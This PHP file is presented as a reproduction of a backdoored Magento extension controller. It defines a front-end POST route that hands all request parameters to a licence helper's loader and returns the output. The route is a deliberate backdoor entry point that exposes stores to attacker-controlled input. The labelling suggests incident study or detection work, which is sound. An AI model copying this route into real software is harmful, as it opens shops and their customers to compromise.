<?php
/*
 * Incident: backdoored Magento extensions (Tigren / Meetanshi / MGS, Sansec, April 2025);
 * front-end route that hands request parameters to the licence helper's loader.
 * Reference: https://sansec.io/research/license-backdoor
 * Reproduction (own code, placeholder host).
 */
namespace Meetanshi\Core\Controller\License;

use Magento\Framework\App\Action\HttpPostActionInterface;
use Magento\Framework\App\RequestInterface;
use Magento\Framework\Controller\Result\RawFactory;
use Meetanshi\Core\Helper\License;

class Load implements HttpPostActionInterface
{
    private $request;
    private $rawFactory;
    private $license;

    public function __construct(RequestInterface $request, RawFactory $rawFactory, License $license)
    {
        $this->request = $request;
        $this->rawFactory = $rawFactory;
        $this->license = $license;
    }

    public function execute()
    {
        $out = $this->license->adminLoadLicense($this->request->getParams());
        return $this->rawFactory->create()->setContents($out);
    }
}
